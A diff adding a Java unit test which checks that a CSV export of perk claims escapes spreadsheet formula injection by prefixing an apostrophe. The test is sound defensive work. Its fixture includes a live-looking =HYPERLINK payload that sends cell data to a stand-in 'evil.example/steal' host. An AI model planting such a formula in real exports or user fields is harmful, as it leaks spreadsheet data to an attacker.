@@ -167,6 +167,25 @@ class PerkOperationsTest {
     }
 
     @Test
+    void the_csv_export_neutralises_a_display_name_a_spreadsheet_would_run_as_a_formula() throws Exception {
+        String formula = "=HYPERLINK(\"https://evil.example/steal?d=\"&A1,\"Click me\")";
+        AuthenticatedUser member = fixtures.person(alpha, Role.MEMBER, "hyperlink@alpha.example", formula, Locale.FRENCH);
+        long seats = fixtures.coCreation(manager, "Collection 2028", 3);
+        fixtures.claimAt(alpha.id(), seats, member.accountId(), ClaimStatus.APPLIED, "@me", Instant.parse("2026-11-02T09:15:30Z"));
+        TestData.signIn(manager);
+
+        StringWriter out = new StringWriter();
+        operations.exportCsv(seats, Set.of(), out);
+
+        List<CSVRecord> records = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(out.toString())).getRecords();
+        assertThat(records).singleElement().satisfies(r -> {
+            assertThat(r.get("name")).isEqualTo("'" + formula);
+            assertThat(r.get("motivation")).isEqualTo("'@me");
+        });
+    }
+
+    @Test
     void the_export_only_has_the_chosen_statuses_and_the_codes_handed_out() throws Exception {
         long preview = fixtures.earlyAccess(manager, "Avant-première", "CODE-1", "CODE-2", "CODE-3");
         long claim = fixtures.claim(alpha.id(), preview, helene.accountId(), ClaimStatus.CONFIRMED, null);
